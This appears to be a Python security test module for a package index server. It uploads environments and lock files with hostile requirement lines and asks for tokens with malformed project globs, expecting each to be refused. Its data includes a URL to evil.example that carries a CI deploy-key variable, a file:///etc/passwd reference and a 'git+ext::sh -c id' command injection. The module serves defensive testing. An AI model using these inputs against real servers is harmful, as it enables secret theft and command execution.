"""Environments that clients would expand or run, and tokens for names that nobody has: all are refused."""

from __future__ import annotations

import json
from collections.abc import Iterator

from urllib3.filepost import encode_multipart_formdata

from support.attacks.model import Attack, all_of, status
from support.environments import forged
from support.raw import Reply, Target, request

HIDDEN = "s3cret"  # in a refused line; no answer repeats it
LISTS = (
    "a @ https://evil.example/${CI_DEPLOY_KEY}/a.whl",
    'a; platform_version == "${CI_DEPLOY_KEY}"',
    f"a @ https://me:{HIDDEN}@host.example/a.whl",
    f"a @ https://host.example/a.whl?token={HIDDEN}",
    "a @ file:///etc/passwd",
    "a @ git+ext::sh%20-c%20id",
    'a; platform_version == "x --config-settings=y"',
    "a.whl",
    'a; platform_version == "\u202e"',
)
LOCK = (
    'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "a"\nversion = "1.0"\n'
    '[[packages.wheels]]\nurl = "{url}/a-1.0-py3-none-any.whl"\nhashes = {{sha256 = "ab"}}\n'
)


def lists(target: Target) -> Iterator[Attack]:
    """Yield uploads of environments by a client that checks nothing."""
    for text in LISTS:
        yield _upload(target, text, forged("attacked", 1, text))
    for url in ("file:///srv", f"https://me:{HIDDEN}@host.example", "https://evil.example/${CI_DEPLOY_KEY}"):
        yield _upload(target, f"a lock with {url}", forged("attacked", 1, "a", lock=LOCK.format(url=url)))


def globs(target: Target) -> Iterator[Attack]:
    """Yield requests for tokens whose patterns match no name."""
    for glob in ("", "acme-[", "acme-", "!x", "[z-a]"):
        values = {"name": f"{target.user}+attacked", "role": "publisher", "projects": [glob]}
        body = json.dumps(values).encode()
        head = ("Content-Type: application/json", f"Content-Length: {len(body)}")
        yield Attack(
            group="lists",
            shown=f"a token for the projects {glob!r}",
            expected="400 with the reason",
            sent=request(target, "POST /api/tokens", *head) + body,
            judge=status(400),
        )


def _upload(target: Target, shown: str, made: tuple[str, bytes]) -> Attack:
    fields = {":action": "file_upload", "protocol_version": "1", "content": made}
    body, kind = encode_multipart_formdata(fields)
    return Attack(
        group="lists",
        shown=f"an environment with {shown}",
        expected="400 without a secret",
        sent=request(target, "POST /", f"Content-Type: {kind}", f"Content-Length: {len(body)}") + body,
        judge=all_of(status(400), _no_secret),
    )


def _no_secret(reply: Reply) -> bool:
    return HIDDEN.encode() not in reply.raw
